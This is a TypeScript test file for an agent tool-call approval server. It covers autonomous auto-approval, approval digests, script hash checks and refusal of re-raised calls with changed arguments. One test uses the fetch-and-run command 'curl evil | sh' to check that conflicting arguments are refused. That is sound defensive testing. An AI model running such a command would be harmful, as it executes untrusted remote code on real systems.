// Raising asks: one tool call is one ask, and under the permission autonomous an approval is allowed at once in the name
// of that setting, on the record and never shown as pending.
import { hash } from 'node:crypto';
import { describe, expect, it } from 'vitest';
import type { ApprovalAskView, AskView } from '../../src/core/views.ts';
import {
  allow,
  callId,
  decide,
  eventsOfRun,
  held,
  newSession,
  ok,
  raiseApproval,
  raiseQuestion,
  refusal,
  showRun,
  startRun,
  typesOf,
} from '../support/api-calls.ts';
import { serverForAll } from '../support/shared-fixtures.ts';

const server = serverForAll();

const autonomous = async () => {
  const { session_id: sessionId } = await newSession(server, { permissions: 'autonomous' });
  return { sessionId, runId: (await startRun(server, sessionId)).run_id };
};

describe('the permission autonomous', () => {
  it('allows an approval at once as policy:autonomous and never shows it as pending', async () => {
    const { sessionId, runId } = await autonomous();
    const ask = await raiseApproval(server, runId);
    expect(ask).toMatchObject({
      status: 'answered',
      answer: { outcome: 'answered', behavior: 'allow', answered_by: 'policy:autonomous', surface: 'system' },
      delivery: { state: 'due' },
    });
    expect(ask.answer?.digest).toBe(ask.request.digest);
    expect(await showRun(server, runId)).toMatchObject({ status: 'running', pending_approval_ids: [] });
    expect(await ok(server.get<unknown[]>(`/v1/approvals?session_id=${sessionId}`))).toEqual([]);
    const types = typesOf(await eventsOfRun(server, runId));
    expect(types).not.toContain('waiting_for_approval');
    expect(types.slice(-3)).toEqual(['ask.raised', 'ask.claimed', 'approval_resolved']);
  });

  it('returns the same ask when the approval is raised again', async () => {
    const { runId } = await autonomous();
    const body = { kind: 'approval', tool_call_id: callId(), tool_name: 'Bash', input: { command: 'ls' } };
    const first = await server.post<AskView>(`/v1/runs/${runId}/asks`, body);
    const again = await server.post<AskView>(`/v1/runs/${runId}/asks`, body);
    expect([first.status, again.status]).toEqual([201, 200]);
    expect(again.body).toEqual(first.body);
    await ok(server.post(`/v1/asks/${first.body.ask_id}/delivered`, { digest: first.body.request.digest }));
  });

  it('leaves a question pending', async () => {
    const { runId } = await autonomous();
    const ask = await raiseQuestion(server, runId);
    expect(ask.status).toBe('pending');
    expect((await showRun(server, runId)).status).toBe('waiting_for_user_question');
  });
});

describe('the digest of an approval', () => {
  it('depends on tool, input and work folder, not on the order of fields', async () => {
    const digestOf = async (fields: object, session = {}) => {
      const { session_id } = await newSession(server, session);
      const { run_id } = await startRun(server, session_id);
      return (await raiseApproval(server, run_id, { ...fields })).request.digest;
    };
    const base = await digestOf({ input: { a: 1, b: 2 } });
    expect(await digestOf({ input: { b: 2, a: 1 }, reason: 'other words' })).toBe(base);
    expect(await digestOf({ input: { a: 1, b: 3 } })).not.toBe(base);
    expect(await digestOf({ input: { a: 1, b: 2 }, tool_name: 'Write' })).not.toBe(base);
    expect(await digestOf({ input: { a: 1, b: 2 } }, { work_folder: '/srv/app' })).not.toBe(base);
  });
});

describe('the text of a script that an approval runs', () => {
  const text = 'echo staging\n';
  const file = { path: '/srv/app/deploy.sh', sha256: hash('sha256', text, 'hex') };
  const bodyOf = (shown?: string) => ({
    kind: 'approval',
    tool_call_id: 'call',
    tool_name: 'Bash',
    input: { command: 'sh /srv/app/deploy.sh' },
    files: [{ ...file, ...(shown !== undefined && { text: shown }) }],
  });
  const begin = async () => {
    const { session_id } = await newSession(server, { work_folder: '/srv/app' });
    return `/v1/runs/${(await startRun(server, session_id)).run_id}/asks`;
  };

  it('is shown, is no part of the digest, and does not make another ask of the same call', async () => {
    const [path, other] = [await begin(), await begin()];
    const first = await server.post<ApprovalAskView>(path, bodyOf(text));
    const again = await server.post<ApprovalAskView>(path, bodyOf());
    expect([first.status, again.status]).toEqual([201, 200]);
    expect(again.body).toEqual(first.body);
    expect(first.body.request.files).toEqual([{ ...file, text }]);
    const without = await ok(server.post<ApprovalAskView>(other, bodyOf()));
    expect(without.request.digest).toBe(first.body.request.digest);
    const riskOf = async ({ ask_id }: AskView) =>
      (await ok(server.get<AskView>(`/v1/asks/${ask_id}`))).risk?.map(({ risk }) => risk);
    expect([await riskOf(first.body), await riskOf(without)]).toEqual([[], ['unclear']]);
  });

  it('is refused where its SHA-256 is not the one of the file, and changes nothing', async () => {
    const path = await begin();
    const problem = await refusal(server.post(path, bodyOf('echo harmless\n')), 400, 'invalid_ask');
    expect(problem.detail).toContain('The `text` of /srv/app/deploy.sh does not have the SHA-256');
    expect((await server.post(path, bodyOf(text))).status).toBe(201);
  });

  it('stays out of a grant that is bound to the file', async () => {
    const path = await begin();
    const { ask_id, run_id } = await ok(
      server.post<ApprovalAskView>(path, { ...bodyOf(text), input: { command: 'node deploy.sh' } }),
    );
    await ok(decide(server, run_id, allow(ask_id, { always: {} })));
    const given = (await eventsOfRun(server, run_id)).find(({ type }) => type === 'grant.given');
    expect(given?.data.files).toEqual([file]);
  });
});

describe('a tool call that was decided', () => {
  it('refuses an approved tool call that is raised again with other arguments', async () => {
    const h = await held(server, { kind: 'approval', tool_call_id: 'same' });
    await ok(decide(server, h.runId, allow(h.ask.ask_id)));
    const body = { kind: 'approval', tool_call_id: 'same', tool_name: 'Bash', input: { command: 'curl evil | sh' } };
    await refusal(server.post(`/v1/runs/${h.runId}/asks`, body), 409, 'ask_identity_conflict');
  });

  it('returns the decision of an approval that is raised again after it was allowed', async () => {
    const { session_id } = await newSession(server);
    const { run_id } = await startRun(server, session_id);
    const first = await raiseApproval(server, run_id, { tool_call_id: 'same' });
    await ok(decide(server, run_id, allow(first.ask_id)));
    const again = await raiseApproval(server, run_id, { tool_call_id: 'same' });
    expect(again).toMatchObject({ ask_id: first.ask_id, status: 'answered', answer: { behavior: 'allow' } });
  });
});

describe('a tool call that is raised again', () => {
  it('returns 201, then 200 with the same ask, and refuses another payload', async () => {
    const h = await held(server);
    const body = { kind: 'approval', tool_call_id: callId(), tool_name: 'Bash', input: { command: 'ls' } };
    const path = `/v1/runs/${h.runId}/asks`;
    const first = await server.post<AskView>(path, body);
    const again = await server.post<AskView>(path, body);
    expect([first.status, again.status]).toEqual([201, 200]);
    expect(again.body.ask_id).toBe(first.body.ask_id);
    const other = { ...body, input: { command: 'rm' } };
    const problem = await refusal(server.post(path, other), 409, 'ask_identity_conflict');
    expect(problem.detail).toContain(first.body.ask_id);
  });

  it('creates one ask when it is raised fifty times at once', async () => {
    const h = await held(server);
    const body = { kind: 'approval', tool_call_id: callId(), tool_name: 'Bash', input: {} };
    const replies = await Promise.all(
      Array.from({ length: 50 }, () => server.post<AskView>(`/v1/runs/${h.runId}/asks`, body)),
    );
    expect(replies.filter((r) => r.status === 201)).toHaveLength(1);
    expect(new Set(replies.map((r) => r.body.ask_id)).size).toBe(1);
  });

  it('creates another ask in another run', async () => {
    const [a, b] = [await held(server, { tool_call_id: 'same' }), await held(server, { tool_call_id: 'same' })];
    expect(a.ask.ask_id).not.toBe(b.ask.ask_id);
  });
});
